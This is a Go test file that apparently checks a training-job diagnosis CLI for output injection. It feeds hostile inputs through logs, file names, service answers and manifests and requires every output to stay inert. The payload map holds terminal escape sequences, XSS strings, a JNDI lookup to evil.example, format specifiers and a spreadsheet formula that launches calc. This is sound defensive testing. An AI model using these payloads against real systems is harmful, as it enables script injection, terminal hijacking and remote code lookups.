package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// attacks are what a terminal, a viewer, a browser or a spreadsheet would obey:
// control sequences that clear, recolour, retitle, link and fill the clipboard,
// overprinting, marks that reorder or hide text, line ends that are not "\n";
// cells, code, HTML, links and templates; what XML and UTF-8 do not allow; and
// the beginnings of formulas.
var attacks = map[string]string{
	"terminal": "\x1b[2J\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\\x1b]52;c;ZWNobw==\x07" +
		"\u009b31m\u009d0;x\u009c ok\b\b\r \u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" +
		" a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\U000e0041h a\u2028b\u2029c\u0085d\vE\f",
	"markup": "| x ` y `` z || <script>alert(1)</script><img src=x onerror=alert(1)><!--</title></style>" +
		`<a href="javascript:alert(1)">x</a> javascript:alert(1) ` +
		"[x](http://evil.example) ![x](http://evil.example/p.png) <http://evil.example> # > --- {{.}} ${jndi:ldap://evil.example} %s%n%!d",
	"encoding": "]]>&x;\x01\ufffe\uffff \xff\xc0\xafx\xed\xa0\x80 a\",\"b\";c'",
	"formula":  "=cmd|' /C calc'!A0",
	"at sign":  "@SUM(A1)",
	"tab":      "\t=1",
}

// inert fails when a text holds what a terminal or a viewer would obey.
func inert(t *testing.T, where, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s: invalid bytes pass", where)
	}
	for _, r := range text {
		if r != '\n' && (unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r)) {
			t.Errorf("%s: %U passes in %.200q", where, r, text)
			return
		}
	}
}

// wellFormed fails when a text is not what its format says, or acts in it.
func wellFormed(t *testing.T, where, format, text string) {
	t.Helper()
	switch format {
	case "json":
		if !json.Valid([]byte(text)) {
			t.Errorf("%s is no JSON: %.300q", where, text)
		}
	case "ndjson":
		for line := range strings.Lines(text) {
			if !json.Valid([]byte(line)) {
				t.Errorf("%s: no JSON on a line: %.300q", where, line)
			}
		}
	case "csv":
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Errorf("%s is no CSV: %v", where, err)
		}
		for _, cell := range slices.Concat(rows...) {
			if cell = strings.TrimSpace(cell); cell != "" && strings.ContainsAny(cell[:1], "=+@") {
				t.Errorf("%s: a formula passes: %q", where, cell)
			}
		}
	case "junit":
		for d := xml.NewDecoder(strings.NewReader(text)); ; {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Errorf("%s is no XML: %v", where, err)
				break
			}
		}
	case "html":
		for _, tag := range activeTag.FindAllString(attribute.ReplaceAllString(text, ""), -1) {
			t.Errorf("%s: an element of the input passes: %s", where, tag)
		}
	case "markdown":
		if at := activeMarkdown.FindString(codeSpan.ReplaceAllString(text, "")); at != "" {
			t.Errorf("%s: Markdown of the input passes: %q", where, at)
		}
	}
}

var (
	attribute      = regexp.MustCompile(`="[^"]*"`) // nothing in it is an element
	activeTag      = regexp.MustCompile(`(?i)<[^>]*(?:onerror|evil\.example|alert\(1\)|javascript:)[^>]*>`)
	codeSpan       = regexp.MustCompile("(`+)(?:[^`\n]|[^`\n]`+[^`\n])*?`+")
	activeMarkdown = regexp.MustCompile(`(?:^|[^\\])(?:<(?:script|img|a |http)|\]\(http)`)
)

// pile writes a folder of two cases that hold an attack wherever a stranger's
// text can stand: in a log, in the name of a file, in the names that the service
// answers with.
func pile(t *testing.T, attack string) string {
	t.Helper()
	dir := t.TempDir()
	file := strings.Map(func(r rune) rune {
		if r == '/' || r == 0 {
			return -1
		}
		return r
	}, "x"+attack[:min(len(attack), 200)]+".log")
	job := hostileDetails(attack, attack+"\nValueError: "+attack, 1)
	for name, text := range map[string]string{
		"one/" + file:       "2026-06-02 09:41:50 " + attack + "\n" + failure + "ValueError: " + attack + "\n",
		"one/job.json":      job,
		"two/train.log":     "Traceback (most recent call last):\n  File \"" + attack + "\", line 3, in " + attack + "\n    " + attack + "\nFileNotFoundError: [Errno 2] No such file or directory: '" + attack + "'\n",
		"two/empty" + file:  "",
		"two/broken.tar.gz": "\x1f\x8b\x08" + attack,
	} {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// hostileDetails are those of a job whose name nobody checked.
func hostileDetails(name, message string, exit int) string {
	return strings.Replace(details(oomJob, "NAME", "Failed", message, exit), `"NAME"`, quoted(name), 1)
}

// TestHostileOutput: whatever stands in a log, a name or an answer, no output of
// any command acts on the terminal, the viewer, the browser or the spreadsheet.
func TestHostileOutput(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("its file names cannot hold most of this")
	}
	for what, attack := range attacks {
		t.Run(what, func(t *testing.T) {
			dir := pile(t, attack)
			one, two := filepath.Join(dir, "one"), filepath.Join(dir, "two")
			saved := filepath.Join(t.TempDir(), "report.json")
			ndjson := filepath.Join(t.TempDir(), "rows.ndjson")
			type command struct {
				format string
				args   []string
			}
			runs := []command{
				{"json", []string{"analyze", "--format=json", "--why", "-o", saved, one}},
				{"ndjson", []string{"triage", "--format=ndjson", "-o", ndjson, dir}},
				{"markdown", []string{"analyze", "--template=strict", one}},
				{"markdown", []string{"diff", two, one}},
				{"json", []string{"diff", "--format=json", two, one}},
				{"text", []string{"verify", saved, two}},
				{"text", []string{"bundle", one, "-o", filepath.Join(t.TempDir(), "b.zip")}},
				{"text", []string{"bundle", "check", dir}},
				{"text", []string{"shrink", one, "-o", filepath.Join(t.TempDir(), "small")}},
				{"text", []string{"explain", "ValueError: " + attack}},
				{"json", []string{"explain", "--format=json", "ValueError: " + attack}},
				{"text", []string{"rules", "explain-line", "CUDA out of memory " + attack}},
				{"text", []string{"analyze", filepath.Join(dir, attack)}},
				{"text", []string{"analyze", one, "-o", filepath.Join(dir, "none", attack)}},
				{"text", []string{"analyze", "--format=" + attack, one}},
				{"text", []string{"corpus", "import", filepath.Join(two, "broken.tar.gz")}},
				{"text", []string{"corpus", "list", "--corpus=" + filepath.Join(dir, attack)}},
				{"text", []string{"rules", "lint", dir}},
				{"text", []string{attack}},
			}
			for _, f := range []string{"markdown", "text", "json", "html"} {
				runs = append(runs, command{f, []string{"analyze", "--format=" + f, "--why", one, two}},
					command{f, []string{"report", "render", saved, "--format=" + f}})
			}
			for _, f := range []string{"table", "markdown", "csv", "html", "junit", "json", "ndjson"} {
				runs = append(runs, command{f, []string{"triage", "--format=" + f, dir}}, command{f, []string{"triage", "merge", ndjson, "--format=" + f}})
			}
			for _, c := range runs {
				got := invoke(t, "", nil, append(c.args, "--lang=en")...)
				where := strings.Join(c.args[:min(2, len(c.args))], " ")
				if bytes.ContainsRune([]byte(where), 0x1b) {
					where = "a wrong command"
				}
				out := strings.TrimPrefix(got.stdout, "\ufeff")
				if c.format == "html" {
					out = pageScript.ReplaceAllString(out, "")
				}
				inert(t, where+" "+c.format, out)
				inert(t, where+" on standard error", got.stderr)
				if got.stdout != "" {
					wellFormed(t, where+" as "+c.format, c.format, out)
				}
			}
		})
	}
}

// pageScript are the style and the script that pages have of their own.
var pageScript = regexp.MustCompile(`(?s)<style>.*?</style>|<script>.*?</script>`)

// TestHostileAnswers: the same for what hcloud prints and the service answers.
func TestHostileAnswers(t *testing.T) {
	for what, attack := range attacks {
		t.Run(what, func(t *testing.T) {
			job := hostileDetails("job "+attack, traceback+"ValueError: "+attack, 1)
			answers := slices.Concat(one(oomJob, "Failed", attack, 1, attack+"\n"+failure, attack), []said{
				{detailsOf(oomJob), job}, {listOf(0, filter("phase", "in", abnormal...)), pageOf(job)},
			})[1:]
			program := stand(t, scene(t, answers...))
			dir := t.TempDir()
			for _, args := range [][]string{
				{"diagnose", oomJob}, {"diagnose", oomJob, "--format=html"}, {"record", oomJob},
				{"corpus", "list"}, {"corpus", "list", "--format=json"}, {"corpus", "verify"}, {"corpus", "show", oomJob},
				{"scan"}, {"scan", "--format=json"}, {"scan", "--format=csv"}, {"job", "show", oomJob},
			} {
				got := beside(t, program, dir, append(args, "--lang=en")...)
				inert(t, strings.Join(args, " "), pageScript.ReplaceAllString(got.stdout, ""))
				inert(t, strings.Join(args, " ")+" on standard error", got.stderr)
			}
			shouting := filepath.Join(t.TempDir(), "hcloud")
			script := "#!/bin/sh\ncat <<'END' >&2\n" + attack + "\nEND\necho '[USE_ERROR]" + strings.ReplaceAll(attack, "'", "") + "'\nexit 1\n"
			if err := os.WriteFile(shouting, []byte(script), 0o755); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{{"diagnose", oomJob}, {"record", oomJob}, {"doctor"}, {"job", "show", oomJob}} {
				got := beside(t, shouting, dir, append(args, "--lang=en")...)
				inert(t, "hcloud's own words, "+strings.Join(args, " "), got.stdout)
				inert(t, "hcloud's own words on standard error, "+strings.Join(args, " "), got.stderr)
			}
		})
	}
}

// TestHostileManifests: what stands in the manifest of a case that a stranger sent,
// and in the rows of a scan, acts no more than what the service answers.
func TestHostileManifests(t *testing.T) {
	recorded := filepath.Join("..", "corpus", "cases", "recorded-with-hcloud", "input")
	for what, attack := range attacks {
		t.Run(what, func(t *testing.T) {
			dir := t.TempDir()
			sent := filepath.Join(dir, "sent")
			if err := os.CopyFS(sent, os.DirFS(recorded)); err != nil {
				t.Fatal(err)
			}
			file := filepath.Join(sent, "case.json")
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			var manifest map[string]any
			if err := json.Unmarshal(data, &manifest); err != nil {
				t.Fatal(err)
			}
			attack := strings.ToValidUTF8(attack, "x")
			for _, field := range []string{"region", "tool", "hcloud"} {
				manifest[field] = attack
			}
			manifest["job"] = map[string]any{"id": attack, "name": attack, "phase": attack}
			for _, x := range manifest["exchanges"].([]any) {
				x.(map[string]any)["class"] = attack
			}
			planned := map[string]any{"operation": "ListTrainingJobs", "parameters": map[string]any{"task_id": attack}}
			manifest["planned"] = append(manifest["planned"].([]any), planned)
			if data, err = json.Marshal(manifest); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, data, 0o644); err != nil {
				t.Fatal(err)
			}
			cases := "--corpus=" + filepath.Join(dir, "cases")
			for i, args := range [][]string{
				{"corpus", "import", sent}, {"corpus", "list"}, {"corpus", "list", "--format=json"}, {"corpus", "show", sent}, {"corpus", "show", "--format=json", sent}, {"corpus", "verify"},
				{"diagnose", "--replay", sent}, {"record", "--all", "--replay", sent}, {"scan", "--replay", sent}, {"corpus", "rm", "6f1b2c58-20260602T015000Z"},
			} {
				got := invoke(t, "", nil, append(args, cases, "--lang=en")...)
				inert(t, strings.Join(args[:2], " "), got.stdout)
				inert(t, strings.Join(args[:2], " ")+" on standard error", got.stderr)
				if i < 6 && got.code != exitOK {
					t.Errorf("%q: %+v", args, got)
				}
			}
			r := row{Job: attack, Name: attack, Phase: attack, Cause: attack, Confidence: attack, Task: attack, Rank: -1, Summary: attack, Fingerprint: attack}
			for _, format := range []string{"csv", "table", "json"} {
				out, err := (&scanCmd{Format: format}).render(&console{lang: "en"}, []row{r})
				if err != nil {
					t.Fatal(err)
				}
				inert(t, "scan "+format, string(out))
				wellFormed(t, "scan", format, string(out))
				if format == "csv" && !strings.Contains(string(out), ",-1,") {
					t.Errorf("the rank is no number: %s", out)
				}
			}
		})
	}
}
